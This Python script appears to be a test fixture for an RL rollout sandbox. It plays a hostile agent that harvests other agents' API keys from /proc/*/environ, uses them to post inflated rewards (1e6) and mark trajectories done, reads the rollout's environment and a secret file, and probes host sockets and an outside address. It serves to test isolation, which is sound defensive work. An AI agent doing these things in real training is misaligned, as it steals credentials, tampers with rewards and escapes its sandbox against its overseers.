"""A hostile agent process (rollout.agent: openai): what a model-driven agent could try
against the other agents and the rollout. Usage:

    python hostile_agent.py REPORT_TAG SECONDS RUN_DIR DECOY_HOST:PORT DECOY_SOCKET ROLLOUT_PID

For SECONDS it scans /proc/*/environ for the other agents' OPENAI_API_KEY (and their
trajectory ids) and reads the rollout's (ROLLOUT_PID's); it tries each stolen
key: a reward of 1e6 and done on that trajectory; it tries its own key on the others, reads
RUN_DIR (channel.secret, the agents' records), connects to a TCP listener and a Unix
socket of the host. Then it prints `REPORT_TAG <json of what succeeded>` and exits 3 (its
log is kept). Works through whatever base URL it was given (the forwarder's in a jail).

As a pool worker (`python hostile_agent.py REPORT_TAG SECONDS`, TSYNC_POOL_URL set) it reads
the other workers' keys instead and pulls their trajectories with them, posting each done
with a reward of 1e6."""

from __future__ import annotations

import glob
import json
import os
import socket
import sys
import time

import httpx


def environs() -> list[dict[str, str]]:
    """The environment of every process it can read."""
    out = []
    for path in glob.glob("/proc/[0-9]*/environ"):
        if path == f"/proc/{os.getpid()}/environ":
            continue
        try:
            raw = open(path, "rb").read()
        except OSError:
            continue
        env = {}
        for item in raw.split(b"\0"):
            k, sep, v = item.partition(b"=")
            if sep:
                env[k.decode(errors="replace")] = v.decode(errors="replace")
        out.append(env)
    return out


def pool_worker(tag: str, seconds: str) -> int:
    """As a pool worker (TSYNC_POOL_URL): the other workers' keys from /proc/*/environ,
    each used to pull that worker's trajectories and post them done with 1e6."""
    me, url = os.environ["TSYNC_WORKER_ID"], os.environ["TSYNC_POOL_URL"]
    report: dict = {"uid": os.getuid(), "worker_keys": [], "stolen": []}
    deadline = time.monotonic() + float(seconds)
    http = httpx.Client(timeout=10)
    while time.monotonic() < deadline:
        for env in environs():
            worker, key = env.get("TSYNC_WORKER_ID"), env.get("OPENAI_API_KEY")
            if not worker or not key or worker == me:
                continue
            if worker not in report["worker_keys"]:
                report["worker_keys"].append(worker)
            r = http.post(f"{url}/next", json={"worker": worker, "wait_s": 0},
                          headers={"Authorization": f"Bearer {key}"})
            if r.status_code == 200:
                h = r.json()
                http.post(f"{h['base_url']}/done", json={"reward": 1e6},
                          headers={"Authorization": f"Bearer {h['api_key']}"})
                report["stolen"].append(h["trajectory"])
        time.sleep(0.1)
    print(tag, json.dumps(report), flush=True)
    return 3


def main() -> int:
    if os.environ.get("TSYNC_POOL_URL"):
        return pool_worker(*sys.argv[1:3])
    tag, seconds, run_dir, decoy, decoy_sock, rollout_pid = sys.argv[1:7]
    me = os.environ["TSYNC_TRAJECTORY_ID"]
    base = os.environ["OPENAI_BASE_URL"]  # .../t/<me>/v1
    root = base[:base.index(f"/t/{me}/")]
    mine = os.environ["OPENAI_API_KEY"]
    found: dict[str, str] = {}
    report: dict = {"uid": os.getuid(), "path": os.environ.get("PATH", ""), "rollout_env": False, "keys": [], "rewarded": [],
                    "done": [], "own_key_elsewhere": [], "secret": False, "run_dir": [],
                    "connected": []}
    deadline = time.monotonic() + float(seconds)
    http = httpx.Client(timeout=10)
    while time.monotonic() < deadline:
        for env in environs():
            tid, key = env.get("TSYNC_TRAJECTORY_ID"), env.get("OPENAI_API_KEY")
            if tid and key and tid != me and tid not in found:
                found[tid] = key
                r = http.post(f"{root}/t/{tid}/v1/reward", json={"reward": 1e6},
                              headers={"Authorization": f"Bearer {key}"})
                if r.status_code == 200:
                    report["rewarded"].append(tid)
        time.sleep(0.1)
    report["keys"] = sorted(found)
    try:  # the rollout's environment (its pid on the host)
        report["rollout_env"] = bool(open(f"/proc/{rollout_pid}/environ", "rb").read())
    except OSError:
        pass
    for tid in ("a", "b"):
        r = http.post(f"{root}/t/{tid}/v1/done", json={"reward": 1e6},
                      headers={"Authorization": f"Bearer {found.get(tid, mine)}"})
        if r.status_code == 200:
            report["done"].append(tid)
        r = http.post(f"{root}/t/{tid}/v1/reward", json={"reward": 1e6},
                      headers={"Authorization": f"Bearer {mine}"})
        if r.status_code == 200:
            report["own_key_elsewhere"].append(tid)
    try:
        report["secret"] = bool(open(os.path.join(run_dir, "channel.secret")).read())
    except OSError:
        pass
    try:
        report["run_dir"] = sorted(os.listdir(run_dir))
    except OSError:
        pass
    host, _, port = decoy.rpartition(":")
    for fam, addr in ((socket.AF_INET, (host, int(port))), (socket.AF_UNIX, decoy_sock),
                      (socket.AF_INET, ("1.1.1.1", 53))):
        s = socket.socket(fam, socket.SOCK_STREAM)
        s.settimeout(2)
        try:
            s.connect(addr)
            report["connected"].append(str(addr))
        except OSError:
            pass
        finally:
            s.close()
    print(tag, json.dumps(report), flush=True)
    return 3


if __name__ == "__main__":
    sys.exit(main())
